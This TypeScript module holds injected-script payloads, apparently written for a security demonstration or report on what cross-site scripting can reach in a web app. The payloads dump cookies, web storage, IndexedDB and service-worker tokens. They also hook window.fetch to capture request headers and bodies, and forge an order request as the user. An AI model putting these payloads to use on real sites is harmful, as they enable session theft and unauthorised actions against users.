/** The scripts of the attackers, as they run in a page. */

/** Everything a script can read at once, as one text. */
export const readEverything = `
  const lists = (storage) => { try { return { ...storage }; } catch (error) { return String(error); } };
  const databases = async () => {
    const found = {};
    for (const { name, version } of await indexedDB.databases()) {
      const db = await new Promise((resolve, reject) => {
        const opening = indexedDB.open(name, version);
        opening.onsuccess = () => resolve(opening.result);
        opening.onerror = () => reject(opening.error);
      });
      for (const store of db.objectStoreNames) {
        found[name + '/' + store] = await new Promise((resolve) => {
          const request = db.transaction(store).objectStore(store).getAll();
          request.onsuccess = () => resolve(request.result);
        });
      }
      db.close();
    }
    return found;
  };
  const worker = async () => {
    const controller = navigator.serviceWorker?.controller;
    if (!controller) return 'none';
    const answers = [];
    for (const does of ['state', 'token', 'get', 'export']) {
      const { port1, port2 } = new MessageChannel();
      const answered = new Promise((resolve) => {
        port1.onmessage = ({ data }) => resolve(data);
        setTimeout(resolve, 500, 'no answer');
      });
      controller.postMessage({ does }, [port2]);
      answers.push(await answered);
    }
    return answers;
  };
  const globals = Object.keys(window).filter((name) => typeof window[name] === 'string').map((name) => window[name]);
  return JSON.stringify({
    'document.cookie': document.cookie,
    sessionStorage: lists(window.sessionStorage),
    localStorage: lists(window.localStorage),
    indexedDB: await databases().catch(String),
    'service worker': await worker(),
    globals,
  });
`;

/** Waits for the app's next call: whatever it hands to fetch passes through here. */
export const listenToFetch = `
  window.overheard = [];
  const original = window.fetch;
  window.fetch = (input, init) => {
    window.overheard.push(JSON.stringify({ url: String(input?.url ?? input), headers: init?.headers, body: init?.body }));
    return original(input, init);
  };
`;

export const overheard = 'return window.overheard.join("\\n");';

/** Acts as the user without holding anything: places an order the way the page would. */
export const placeOrder = `
  const answer = await fetch('/api/orders', {
    method: 'POST',
    headers: { 'content-type': 'application/json', 'x-orders-app': '1' },
    body: JSON.stringify({ item: 'Skeleton keys' }),
  });
  return answer.status + ' ' + await answer.text();
`;

/** As the report shows them: what they do, not every line. */
export const shown = {
  readEverything:
    'document.cookie; { ...sessionStorage }; { ...localStorage }; indexedDB.databases() and every store; serviceWorker.controller.postMessage(…); strings on window',
  listenToFetch:
    'window.fetch = (input, init) => { overheard.push(init.headers); return original(input, init); }',
  placeOrder: "fetch('/api/orders', { method: 'POST', headers: { 'x-orders-app': '1' }, body: '{…}' })",
} as const;
